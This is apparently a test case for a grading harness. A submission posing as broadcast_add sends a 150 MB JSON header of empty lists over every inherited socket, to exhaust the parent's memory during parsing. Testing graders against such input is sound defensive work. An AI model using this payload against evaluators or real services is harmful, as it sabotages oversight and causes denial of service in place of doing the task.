"""Attack: answers with a 150 MB JSON header of empty lists. Expect: crashed; at most 0 points.

The parent parsed it (json.loads) before any size or item limit: 50 million lists took it to gigabytes.
"""

import os
import struct
import time


def broadcast_add(a, b):
    header = b'{"list": [' + b"[]," * 50_000_000 + b"[]]}"
    message = b"GRW1" + struct.pack("<I", len(header)) + header
    frame = struct.pack("!i", len(message)) + message
    for fd in range(3, 64):
        try:
            os.fstat(fd)
            os.set_blocking(fd, True)
            os.write(fd, frame[:0])  # a probe: the connection is the one socket
            if not os.path.stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            view = memoryview(frame)
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass
    time.sleep(3600)
